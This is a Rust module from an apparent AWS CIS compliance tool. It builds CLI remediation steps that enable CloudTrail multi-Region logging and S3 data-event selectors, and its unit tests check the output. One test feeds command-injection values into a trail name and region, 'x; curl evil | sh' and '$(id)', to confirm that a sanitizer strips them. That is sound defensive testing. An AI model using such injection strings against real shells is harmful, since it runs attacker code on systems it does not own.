//! The steps that make one trail log every event of a kind, with the commands to type.

use cis_findings::repair::{MOST_BASIC_SELECTORS, SelectorRepair, TrailRepair};
use cis_rules::question::Kind;
use cis_rules::snapshot::ObservedTrail;

use super::Step;

/// The advanced selector of all management events.
pub(super) const MANAGEMENT: &str = concat!(
    r#"{"Name":"Management events","FieldSelectors":["#,
    "\n",
    r#"  {"Field":"eventCategory","Equals":["Management"]}]}"#,
);

/// The steps for one trail.
pub(super) fn steps(repair: &TrailRepair<'_>, kind: Kind, partition: &str) -> Vec<Step> {
    let observed = repair.observed;
    let names = Names::of(observed);
    let mut steps = Vec::new();
    if !repair.is_own {
        steps.push(Step::Note(format!(
            "{} belongs to another account: the organization's management account or its \
             delegated administrator makes these changes, or this account gets a trail of its own.",
            observed.trail.arn.as_deref().unwrap_or("The trail")
        )));
    }
    if repair.extend {
        steps.push(Step::Do("Make the trail multi-Region:".to_string()));
        steps.push(Step::Copy(format!(
            "aws cloudtrail update-trail --region {} --is-multi-region-trail \\\n  --name {}",
            names.region, names.trail
        )));
    }
    if repair.start {
        steps.push(Step::Do("Start the trail:".to_string()));
        steps.push(Step::Copy(format!(
            "aws cloudtrail start-logging --region {} \\\n  --name {}",
            names.region, names.trail
        )));
    }
    if repair.log_deliveries {
        steps.push(Step::Do(
            "Set RecursiveLogging to true on the trail: while it is false, the PutObject events \
             of the trail's own log bucket are suppressed. Or accept that gap by naming the \
             bucket with `--allow-unlogged`."
                .to_string(),
        ));
    }
    if let Some(selectors) = repair.selectors {
        steps.extend(add_a_selector(selectors, kind, partition, &names));
    }
    steps
}

fn add_a_selector(
    selectors: SelectorRepair,
    kind: Kind,
    partition: &str,
    names: &Names<'_>,
) -> Vec<Step> {
    let (list, option, entry) = match selectors {
        SelectorRepair::Advanced => {
            ("AdvancedEventSelectors", "--advanced-event-selectors", advanced(kind))
        }
        SelectorRepair::Basic { .. } => {
            ("EventSelectors", "--event-selectors", basic(kind, partition))
        }
    };
    let mut steps = vec![
        Step::Do(
            "Save the trail's selectors, twice: PutEventSelectors REPLACES the whole set, so the \
             new set must hold the old entries too, and the second copy is the way back."
                .to_string(),
        ),
        Step::Copy(format!(
            "aws cloudtrail get-event-selectors --region {} \\\n  --trail-name {} \\\n  \
             --query {list} --output json > selectors.json",
            names.region, names.trail
        )),
        Step::Copy("cp selectors.json selectors-before.json".to_string()),
        Step::Do(
            "In selectors.json, remove the condition that drops the event, or add this entry to \
             the list and leave the others as they are (an event is logged if any entry selects \
             it):"
                .to_string(),
        ),
        Step::Copy(entry),
    ];
    if selectors == (SelectorRepair::Basic { is_full: true }) {
        steps.push(Step::Note(format!(
            "A trail has at most {MOST_BASIC_SELECTORS} basic selectors: change one of the \
             entries instead of adding one."
        )));
    }
    steps.push(Step::Do("Read selectors.json once more, then put the whole set:".to_string()));
    steps.push(Step::Copy(format!(
        "aws cloudtrail put-event-selectors --region {} \\\n  --trail-name {} \\\n  \
         {option} file://selectors.json",
        names.region, names.trail
    )));
    steps.push(Step::Note(
        "CloudTrail bills data events. A bucket that is meant to stay unlogged (the trail's own \
         log bucket, say) can be named with `--allow-unlogged`, in AWS Config with the parameter \
         `AllowedUnloggedBuckets`; the answer then says so."
            .to_string(),
    ));
    steps
}

/// The advanced selector of every S3 object-level event of a kind.
pub(super) fn advanced(kind: Kind) -> String {
    format!(
        concat!(
            r#"{{"Name":"Every S3 object-level {} event","FieldSelectors":["#,
            "\n",
            r#"  {{"Field":"eventCategory","Equals":["Data"]}},"#,
            "\n",
            r#"  {{"Field":"resources.type","Equals":["AWS::S3::Object"]}},"#,
            "\n",
            r#"  {{"Field":"readOnly","Equals":["{}"]}}]}}"#,
        ),
        kind,
        kind.read_only()
    )
}

/// The basic selector of every S3 object-level event of a kind.
fn basic(kind: Kind, partition: &str) -> String {
    let read_write = match kind {
        Kind::Write => "WriteOnly",
        Kind::Read => "ReadOnly",
    };
    let partition = plain(partition).unwrap_or("aws");
    format!(
        concat!(
            r#"{{"ReadWriteType":"{}","IncludeManagementEvents":false,"DataResources":["#,
            "\n",
            r#"  {{"Type":"AWS::S3::Object","Values":["arn:{}:s3"]}}]}}"#,
        ),
        read_write, partition
    )
}

/// What commands call the trail and its Region.
struct Names<'a> {
    trail: &'a str,
    region: &'a str,
}

impl<'a> Names<'a> {
    fn of(observed: &'a ObservedTrail) -> Self {
        let arn = observed.trail.arn.as_deref();
        let region = observed.trail.home_region.as_deref();
        Self {
            trail: arn.and_then(plain).unwrap_or("TRAIL"),
            region: region
                .or_else(|| arn.and_then(|arn| arn.split(':').nth(3)))
                .and_then(plain)
                .unwrap_or("REGION"),
        }
    }
}

/// A text that a shell takes for one plain word, and no option: what a snapshot says is never
/// trusted in a command.
fn plain(text: &str) -> Option<&str> {
    let is_plain = text.starts_with(|first: char| first.is_ascii_alphanumeric())
        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b":/._-".contains(&byte));
    is_plain.then_some(text)
}

#[cfg(test)]
mod tests {
    use cis_rules::question::{Mode, Question};
    use cis_rules::report::Verdict;
    use cis_rules::selector::Selector;
    use cis_rules::snapshot::Snapshot;

    use super::*;
    use crate::text::samples;

    fn trail() -> ObservedTrail {
        samples::snapshot().trails.unwrap().remove(0)
    }

    fn text(observed: &ObservedTrail) -> String {
        let (snapshot, result) = (samples::snapshot(), samples::non_compliant());
        let repair = TrailRepair::of(&snapshot, &result, observed);
        steps(&repair, result.kind, &snapshot.partition)
            .into_iter()
            .map(|step| match step {
                Step::Do(text) | Step::Copy(text) | Step::Note(text) => text + "\n",
            })
            .collect()
    }

    #[test]
    fn a_single_region_trail_that_is_stopped_is_updated_and_started() {
        let mut observed = trail();
        observed.trail.is_multi_region_trail = Some(false);
        observed.status.as_mut().unwrap().is_logging = Some(false);
        let text = text(&observed);
        for command in [
            "aws cloudtrail update-trail --region us-east-1 --is-multi-region-trail",
            "aws cloudtrail start-logging --region us-east-1",
        ] {
            assert!(
                text.contains(&format!("{command} \\\n  --name {}\n", samples::TRAIL)),
                "{text}"
            );
        }
    }

    #[test]
    fn selectors_are_added_to_and_the_reader_is_warned() {
        let text = text(&trail());
        assert!(text.contains("REPLACES the whole set"), "{text}");
        assert!(text.contains("--advanced-event-selectors file://selectors.json"), "{text}");
        assert!(text.contains(&advanced(Kind::Write)), "{text}");
    }

    #[test]
    fn a_trail_with_basic_selectors_keeps_them() {
        let mut observed = trail();
        observed.event_selectors = None;
        let text = text(&observed);
        assert!(text.contains("--query EventSelectors "), "{text}");
        assert!(text.contains(&basic(Kind::Write, "aws")), "{text}");
    }

    #[test]
    fn the_entries_are_what_they_say() {
        for kind in Kind::ALL {
            for (list, entry) in
                [("AdvancedEventSelectors", advanced(kind)), ("EventSelectors", basic(kind, "aws"))]
            {
                let json = format!(
                    r#"{{"schemaVersion":1,"accountId":"111122223333","trails":[{{"trail":{{"TrailARN":"{}","IsMultiRegionTrail":true}},"status":{{"IsLogging":true}},"eventSelectors":{{"{list}":[{entry}]}}}}]}}"#,
                    samples::TRAIL
                );
                let snapshot = Snapshot::from_json(&json).unwrap();
                let question = Question::new(kind, Mode::Every);
                assert_eq!(
                    cis_rules::evaluate(&snapshot, &question).verdict,
                    Verdict::Compliant,
                    "{entry}"
                );
            }
        }
    }

    #[test]
    fn a_trail_that_needs_no_other_selectors_keeps_them() {
        let mut observed = trail();
        observed.status.as_mut().unwrap().is_logging = Some(false);
        let Some(Selector::Advanced(selector)) =
            observed.event_selectors.as_mut().and_then(|all| all.first_mut())
        else {
            panic!("the sample has an advanced selector");
        };
        selector.field_selectors.truncate(2);
        let text = text(&observed);
        assert!(text.contains("start-logging"), "{text}");
        assert!(!text.contains("put-event-selectors"), "{text}");
    }

    #[test]
    fn a_name_that_a_shell_would_run_stands_in_no_command() {
        let mut observed = trail();
        observed.trail.arn = Some("x; curl evil | sh".to_string());
        observed.trail.home_region = Some("$(id)".to_string());
        let text = text(&observed);
        assert!(!text.contains("curl"), "{text}");
        assert!(!text.contains("$("), "{text}");
        assert!(text.contains("--region REGION "), "{text}");
        assert!(text.contains("--trail-name TRAIL"), "{text}");
        assert_eq!(plain("--region"), None);
    }

    #[test]
    fn another_accounts_trail_is_for_the_organization() {
        let mut observed = trail();
        observed.trail.arn =
            Some("arn:aws:cloudtrail:us-east-1:999988887777:trail/org".to_string());
        assert!(text(&observed).contains("management account"));
    }
}
